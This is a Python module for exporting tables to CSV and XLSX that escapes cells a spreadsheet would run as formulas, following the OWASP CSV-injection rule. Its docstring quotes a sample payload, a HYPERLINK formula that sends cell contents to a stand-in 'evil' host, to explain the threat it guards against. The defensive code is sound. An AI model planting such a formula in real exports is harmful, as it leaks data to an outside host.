"""Tables written for spreadsheets (CSV, XLSX), with no cell a spreadsheet would run.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their
full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20, which some spreadsheets fold to them) is read
by Excel, LibreOffice and Google Sheets as a formula: a label such as
``=HYPERLINK("http://evil/?"&A1)`` in loaded data
would run when an auditor opens the export. Following the OWASP CSV-injection rule, such a cell
is written with a leading ``'``, which spreadsheets show as text. A cell that is a plain number
(``-3``, ``+1.5``) cannot run and is left as it is.

In XLSX every text cell is stored as a string (never a formula), and a cell that would look like
one is marked with Excel's quote prefix, so the workbook shows the value unchanged and editing
the cell does not turn it into a formula; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from typing import BinaryIO

#: what a spreadsheet reads as the start of a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: control characters XLSX (XML 1.0) cannot hold
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

Cell = str | int | float | None


def runs_as_formula(text: str) -> bool:
    """A spreadsheet would evaluate ``text`` if it were typed into a cell."""
    return text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)


def neutralize(value: Cell) -> Cell:
    """``value`` as a spreadsheet shows it without running it: text that would run gets ``'``."""
    if isinstance(value, str) and runs_as_formula(value):
        return "'" + value
    return value


def rows_csv(rows: Iterable[Mapping[str, Cell]], columns: list[str]) -> str:
    """CSV (RFC 4180, ``\\n`` line ends) with a header row; every cell neutralized."""
    out = io.StringIO()
    write_csv(out, rows, columns)
    return out.getvalue()


def write_csv(out: io.TextIOBase, rows: Iterable[Mapping[str, Cell]],
              columns: list[str]) -> None:
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([_csv_cell(c) for c in columns])
    for row in rows:
        writer.writerow([_csv_cell(row.get(c)) for c in columns])


def _csv_cell(value: Cell) -> Cell:
    value = neutralize(value)
    # the writer quotes a cell with "\n" but not one with a bare "\r", which breaks the row
    return value.replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value


def rows_xlsx(rows: list[dict[str, Cell]], out: BinaryIO, sheet_title: str) -> None:
    """A worksheet with a bold, frozen, filterable header; columns sized to their content."""
    document_xlsx(out, sheet_title, list(rows[0]) if rows else [], rows)


@dataclass(frozen=True)
class PrintSetup:
    """How a worksheet prints: A4 landscape, one page wide, the table header on every page."""

    header: str = ""  #: printed top left on every page (for example the organization)
    footer: str = ""  #: printed bottom left on every page (for example the "as of" date)


def document_xlsx(out: BinaryIO, sheet_title: str, columns: list[str],
                  rows: list[dict[str, Cell]], *,
                  preamble: Sequence[tuple[str, Cell]] = (),
                  printing: PrintSetup | None = None) -> None:
    """A worksheet: an optional block of labelled values (a document header), then a table with
    a bold, frozen, filterable header row; columns sized to their content."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.active
    sheet.title = re.sub(r"[\\/*?:\[\]]", "-", sheet_title)[:31] or "Sheet"
    for number, (label, value) in enumerate(preamble, start=1):
        _put(sheet.cell(row=number, column=1), label).font = Font(bold=True)
        _put(sheet.cell(row=number, column=2), value)
    first = len(preamble) + 2 if preamble else 1  # a blank row between header block and table
    widths = [min(60, max(10, max([len(c), *(len(str(r.get(c) or "")) for r in rows)]) + 2))
              for c in columns]
    # printed, a cell longer than its column wraps (styling only those cells keeps it quick)
    wrap = Alignment(wrap_text=True, vertical="top")
    for row_number, values in enumerate([columns, *([r.get(c) for c in columns] for r in rows)],
                                        start=first):
        for column_number, value in enumerate(values, start=1):
            cell = _put(sheet.cell(row=row_number, column=column_number), value)
            if row_number == first:
                cell.font = Font(bold=True)
            elif (printing is not None and isinstance(value, str)
                  and len(value) > widths[column_number - 1] - 2):
                cell.alignment = wrap
    sheet.freeze_panes = f"A{first + 1}"
    if columns:
        last = f"{get_column_letter(len(columns))}{first + len(rows)}"
        sheet.auto_filter.ref = f"A{first}:{last}"
    for index, column_width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column_width
    if printing is not None:
        sheet.page_setup.orientation = sheet.ORIENTATION_LANDSCAPE
        sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
        sheet.page_setup.fitToWidth = 1
        sheet.page_setup.fitToHeight = 0
        sheet.sheet_properties.pageSetUpPr.fitToPage = True
        sheet.print_title_rows = f"{first}:{first}"
        sheet.oddHeader.left.text = _header_text(printing.header)
        sheet.oddFooter.left.text = _header_text(printing.footer)
        sheet.oddFooter.right.text = "Page &P of &N"
    book.save(out)


def _put(cell, value: Cell):  # type: ignore[no-untyped-def]
    """Store ``value`` in ``cell`` as a spreadsheet shows it, never as a formula."""
    if isinstance(value, str):
        cell.value = _NOT_IN_XML.sub("", value)
        cell.data_type = "s"  # openpyxl takes a str starting with "=" for a formula
        if runs_as_formula(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def _header_text(text: str) -> str:
    """Text for a page header or footer: ``&`` starts a field code there, so it is doubled."""
    return _NOT_IN_XML.sub("", text).replace("&", "&&")[:200]
